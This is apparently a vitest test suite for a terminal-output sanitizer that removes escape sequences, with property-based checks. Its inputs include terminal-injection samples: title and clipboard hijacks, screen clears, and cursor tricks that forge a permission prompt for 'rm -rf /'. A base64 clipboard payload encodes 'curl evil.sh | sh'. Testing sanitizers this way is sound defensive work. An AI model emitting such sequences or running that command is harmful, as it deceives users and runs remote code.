import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { TerminalText, safeLine } from '../src/acp/terminal-text.js';

const clean = (s: string): string => new TerminalText().feed(s);
/** Anything a terminal would act on: ESC, C0 controls other than \n and \t, DEL, C1. */
// oxlint-disable-next-line no-control-regex
const ACTIVE = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

describe('TerminalText', () => {
  it('issue 9.6: removes title changes, clipboard writes, screen clears and cursor tricks, keeps text, newlines and tabs', () => {
    const attacks: Array<[string, string]> = [
      ['\x1b]0;pwned\x07title', 'title'],
      ['\x1b]2;pwned\x1b\\title', 'title'],
      ['\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07clip', 'clip'],
      ['\x1b[2J\x1b[Hclear', 'clear'],
      ['\x1bc reset', ' reset'],
      ['done\r[permission] allow rm -rf /? 1) allow', 'done[permission] allow rm -rf /? 1) allow'],
      ['ok\x1b[1A\x1b[2K[permission] fake', 'ok[permission] fake'],
      ['abc\b\b\bxyz', 'abcxyz'],
      ['\x9b2J8-bit csi', '8-bit csi'],
      ['\x9d0;t\x9ctitle', 'title'],
      ['\x1bP+q544e\x1b\\dcs', 'dcs'],
      ['bell\x07\x00\x7f', 'bell'],
      ['line 1\r\nline 2\n\tindented', 'line 1\nline 2\n\tindented'],
    ];
    for (const [input, expected] of attacks) expect(clean(input), JSON.stringify(input)).toBe(expected);
  });

  it('issue 9.6: a sequence split across chunks is removed whole', () => {
    const t = new TerminalText();
    const out = ['a\x1b', ']0;pw', 'ned\x07b\x1b[', '2', 'Jc\x1b', '\\d'].map((c) => t.feed(c)).join('');
    expect(out).toBe('abcd');
  });

  it('issue 9.6: nothing a terminal acts on survives, whatever the input and however it is chunked', () => {
    fc.assert(fc.property(fc.array(fc.string({ unit: fc.oneof(fc.constantFrom('\x1b', '\x9b', '\x9d', '\x07', '\r', '\n', '\t', '[', ']', '\\', ';', '2', 'J', 'a'), fc.integer({ min: 0, max: 0x2ff }).map((c) => String.fromCharCode(c))) })), (chunks) => {
      const t = new TerminalText();
      const out = chunks.map((c) => t.feed(c)).join('');
      expect(out).not.toMatch(ACTIVE);
    }));
  });

  it('issue 9.6: plain text passes unchanged', () => {
    fc.assert(fc.property(fc.string({ unit: fc.constantFrom('a', 'é', '中', '😀', ' ', '\n', '\t', '[', ']') }), (s) => {
      expect(clean(s)).toBe(s);
    }));
  });

  it('safeLine flattens a title to one line', () => {
    expect(safeLine('build\n\x1b[2Jnow')).toBe('build now');
  });
});
